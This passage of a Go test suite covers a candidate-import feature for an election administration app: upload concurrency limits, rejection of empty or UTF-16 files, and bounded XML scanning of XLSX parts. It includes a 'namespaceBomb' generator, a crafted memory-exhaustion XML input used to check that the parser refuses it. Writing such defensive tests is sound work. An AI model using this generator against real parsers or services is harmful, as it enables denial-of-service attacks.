	for name, data := range map[string][]byte{"xl/printerSettings/printerSettings1.bin": devmode, "xl/drawings/vmlDrawing9.vml": []byte(vml)} {
		w, _ := zw.Create(name)
		_, _ = w.Write(data)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	res := a.upload(gov, "programs.xlsx", file.Bytes())
	if res.status != http.StatusOK {
		t.Fatalf("preview: %d\n%s", res.status, res.body)
	}
	mustContain(t, res.body, "۱ ردیف آماده ورود و ۰ ردیف رد شده", "علی رضایی")
}

// At most importsAtOnce files are read at once: one more waits for a slot a little, then is told to come
// back in a minute (503, Retry-After), having left nothing behind; a slot freed while it waits serves it.
func TestCandidateImportsAtOnce(t *testing.T) {
	a := newTestApp(t)
	a.s.now = func() time.Time { return time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC) }
	a.withElection()
	gov := a.login("gov.marvdasht")
	file := []byte(importHeader + "علی رضایی,حسن," + nid(92) + ",female,1365/11/01,master,,marvdasht,,,,,,1405/08/25,\n")
	if cap(a.s.importSlots) != importsAtOnce || importsAtOnce != 2 {
		t.Fatalf("%d slots", cap(a.s.importSlots))
	}
	// Two imports being read.
	for range importsAtOnce {
		a.s.importSlots <- struct{}{}
	}
	a.s.importWait = 50 * time.Millisecond
	start := time.Now()
	res := a.upload(gov, "third.csv", file)
	if res.status != http.StatusServiceUnavailable || res.header.Get("Retry-After") != "60" {
		t.Fatalf("a third import: %d, Retry-After %q", res.status, res.header.Get("Retry-After"))
	}
	if waited := time.Since(start); waited < a.s.importWait {
		t.Errorf("refused after %v, without waiting", waited)
	}
	mustContain(t, res.body, "فایل دیگری در حال خواندن است؛ یک دقیقه دیگر دوباره تلاش کنید.")
	if n := a.count(`SELECT count(*) FROM candidate_imports`); n != 0 {
		t.Errorf("%d previews kept of a refused file", n)
	}
	// One import ends while the next waits: the waiting one is read.
	a.s.importWait = 10 * time.Second
	go func() {
		time.Sleep(100 * time.Millisecond)
		<-a.s.importSlots
	}()
	if res := a.upload(gov, "third.csv", file); res.status != http.StatusOK {
		t.Fatalf("after a slot was freed: %d", res.status)
	}
	<-a.s.importSlots
	// Each import gives its slot back, whatever its answer.
	for _, f := range [][]byte{file, []byte(importHeader), []byte("PK\x03\x04 not a zip")} {
		a.upload(gov, "f.csv", f)
	}
	if n := len(a.s.importSlots); n != 0 {
		t.Errorf("%d slots still taken after the imports ended", n)
	}
}

// A file that gives no row to import says why (422) and leaves no preview or audit row: a header alone,
// blank rows alone, UTF-16 text. Old Macintosh line endings are line endings. A preview without ready
// rows cannot be confirmed, and offers no confirmation.
func TestCandidateImportSaysWhyNothingIsRead(t *testing.T) {
	a := newTestApp(t)
	a.s.now = func() time.Time { return time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC) }
	a.withElection()
	gov := a.login("gov.marvdasht")
	row := func(i int) string {
		return "نام " + strconv.Itoa(i) + ",پدر," + nid(i) + ",female,1365/11/01,master,,marvdasht,,,,,,1405/08/25,"
	}
	encode16 := func(s string, bigEndian, bom bool) []byte {
		var b []byte
		if bom {
			b = []byte{0xFF, 0xFE}
			if bigEndian {
				b = []byte{0xFE, 0xFF}
			}
		}
		for _, u := range utf16.Encode([]rune(s)) {
			if bigEndian {
				b = append(b, byte(u>>8), byte(u))
			} else {
				b = append(b, byte(u), byte(u>>8))
			}
		}
		return b
	}
	text := importHeader + row(201) + "\n" + row(202) + "\n"
	headerOnly := excelize.NewFile()
	_ = headerOnly.SetSheetRow("Sheet1", "A1", &[]any{"full_name", "national_id"})
	var headerXLSX bytes.Buffer
	_ = headerOnly.Write(&headerXLSX)
	noRows := "فایل هیچ ردیف داده‌ای ندارد"
	saveUTF8 := "این فایل با کدگذاری UTF-16 ذخیره شده است؛ آن را به شکل «CSV UTF-8» ذخیره کنید."
	for _, tt := range []struct {
		name, file string
		data       []byte
		want       string
	}{
		{"a header alone", "header.csv", []byte(importHeader), noRows},
		{"a header and blank rows", "blank.csv", []byte(importHeader + ",,,\n,,,,,,,,,,,,,,,\n\n , \n"), noRows},
		{"a header alone in CRLF and a BOM", "header-crlf.csv", []byte("\uFEFF" + strings.ReplaceAll(importHeader, "\n", "\r\n")), noRows},
		{"an XLSX of a header alone", "header.xlsx", headerXLSX.Bytes(), noRows},
		{"UTF-16LE with its BOM", "le.csv", encode16(text, false, true), saveUTF8},
		{"UTF-16BE with its BOM", "be.csv", encode16(text, true, true), saveUTF8},
		{"UTF-16LE without a BOM", "le-nobom.csv", encode16(text, false, false), saveUTF8},
	} {
		t.Run(tt.name, func(t *testing.T) {
			res := a.upload(gov, tt.file, tt.data)
			if res.status != http.StatusUnprocessableEntity {
				t.Fatalf("status %d", res.status)
			}
			mustContain(t, res.body, tt.want)
		})
	}
	if n := a.count(`SELECT count(*) FROM candidate_imports`) + a.count(`SELECT count(*) FROM audit_log WHERE entity = 'candidate_import'`); n != 0 {
		t.Errorf("%d previews or audit rows of files without rows", n)
	}

	// Carriage returns alone end lines, outside quotes and in them.
	res := a.upload(gov, "mac.csv", []byte(strings.ReplaceAll(text, "\n", "\r")+`"نام ۲۰۳`+"\r"+`دوم",پدر,`+nid(203)+
		",female,1365/11/01,master,,marvdasht,,,,,,1405/08/25,\r"))
	if res.status != http.StatusOK {
		t.Fatalf("CR line endings: %d\n%s", res.status, res.body)
	}
	mustContain(t, res.body, "۳ ردیف آماده ورود و ۰ ردیف رد شده", "<td>نام 201</td>", "<td>نام ۲۰۳ دوم</td>")

	// A preview whose every row is refused has rows to fix and nothing to confirm.
	res = a.upload(gov, "refused.csv", []byte(importHeader+"بد,پدر,0012345670,female,1365/11/01,master,,marvdasht,,,,,,1405/08/25,\n"))
	id := regexp.MustCompile(`/candidates/import/(\d+)/rejected.csv`).FindStringSubmatch(res.body)
	if res.status != http.StatusOK || id == nil {
		t.Fatalf("preview: %d\n%s", res.status, res.body)
	}
	mustContain(t, res.body, "۰ ردیف آماده ورود و ۱ ردیف رد شده")
	mustNotContain(t, res.body, `name="import"`)
	// Neither asked about nor confirmed.
	for _, answer := range []string{"", "yes"} {
		res = a.upload(gov, "", nil, "import", id[1], "confirm", answer)
		if res.status != http.StatusUnprocessableEntity {
			t.Fatalf("confirming a preview without ready rows (confirm=%q): %d", answer, res.status)
		}
		mustContain(t, res.body, "این پیش‌نمایش ردیف آماده‌ای ندارد و چیزی برای ثبت نیست")
	}
	if n := a.count(`SELECT count(*) FROM audit_log WHERE action = 'candidate.import'`); n != 0 {
		t.Errorf("%d audit rows for importing nothing", n)
	}
	if n := a.count(`SELECT count(*) FROM candidate_imports WHERE imported_at IS NOT NULL`); n != 0 {
		t.Error("the preview was marked imported")
	}
}

// namespaceBomb is depth elements nested around text, each declaring per namespaces: not elements, but
// what encoding/xml's Token keeps for every open element.
func namespaceBomb(depth, per int, text string) string {
	var open, closing strings.Builder
	for d := range depth {
		fmt.Fprintf(&open, "<x%d", d)
		for i := range per {
			fmt.Fprintf(&open, ` xmlns:p%d_%d="u"`, d, i)
		}
		open.WriteString(">")
		closing.WriteString(fmt.Sprintf("</x%d>", depth-1-d))
	}
	return open.String() + text + closing.String()
}

// The check of an XLSX holds little whatever its parts declare, and runs only in an import slot: a part of
// 30 elements each declaring 3,400 namespaces around a 70,000-character text is refused having allocated
// a few megabytes, and while the slots are taken it waits for one like the reading it is part of.
func TestCandidateImportXMLScanBounded(t *testing.T) {
	a := newTestApp(t)
	a.s.now = func() time.Time { return time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC) }
	a.withElection()
	gov := a.login("gov.marvdasht")
	scanBomb := xlsxParts(t, func(w io.Writer) { _, _ = io.WriteString(w, xlsxHeader+xlsxRow("x")) },
		map[string]string{"xl/a.xml": `<?xml version="1.0"?><r>` + namespaceBomb(30, 3400, strings.Repeat("y", 70000)) + `</r>`})
	body, ct := multipartFile("scanbomb.xlsx", scanBomb)
	rec, alloc := a.serveImport(gov, body, ct, false)
	t.Logf("scanbomb.xlsx (%d KiB): %d, %.1f MiB allocated", len(scanBomb)>>10, rec.Code, mib(alloc))
	if rec.Code != http.StatusUnprocessableEntity {
		t.Fatalf("status %d", rec.Code)
	}
	mustContain(t, rec.Body.String(), "ساختار این فایل Excel")
	if alloc >= 8<<20 {
		t.Errorf("the check allocated %.1f MiB", mib(alloc))
	}

	// With every slot taken, a third file is not checked: it waits, then is told to come back.
	for range importsAtOnce {
		a.s.importSlots <- struct{}{}
	}
	a.s.importWait = 50 * time.Millisecond
	rec, alloc = a.serveImport(gov, body, ct, false)
	if rec.Code != http.StatusServiceUnavailable {
		t.Errorf("a third file while two are read: %d, %.1f MiB allocated", rec.Code, mib(alloc))
	}
	for range importsAtOnce {
		<-a.s.importSlots
	}
}

// scanXML matches end tags to the open elements itself, as the decoder excelize reads with does, and
// stops where that decoder would: what follows a broken nesting is not counted.
func TestScanXMLNesting(t *testing.T) {
	for _, tt := range []struct {
		name, xml       string
		elements, attrs int
	}{
		{"well formed", `<a x="1"><b/><c y="2" z="3"></c></a>`, 3, 3},
		{"an end tag of another element", `<a><b></a><c/><d/>`, 2, 0},
		{"an end tag of another prefix", `<p:a xmlns:p="u"></q:a><c/>`, 1, 1},
		{"an end tag with nothing open", `<a/></a><c/>`, 1, 0},
		{"namespace declarations are attributes", `<a xmlns="u" xmlns:r="v" r:id="1"/>`, 1, 3},
	} {
		t.Run(tt.name, func(t *testing.T) {
			shape, err := scanXML(strings.NewReader(tt.xml), nil)
			if err != nil || shape.elements != tt.elements || shape.attrs != tt.attrs {
				t.Errorf("%+v, %v; want %d elements, %d attributes", shape, err, tt.elements, tt.attrs)
			}
		})
	}
	if _, err := scanXML(strings.NewReader(namespaceBomb(1, maxXLSXTagAttrs+1, "")), nil); err == nil {
		t.Errorf("a tag of %d attributes was read", maxXLSXTagAttrs+1)
	}
	if _, err := scanXML(strings.NewReader(namespaceBomb(1, maxXLSXTagAttrs, "")), nil); err != nil {
		t.Errorf("a tag of %d attributes: %v", maxXLSXTagAttrs, err)
	}
}
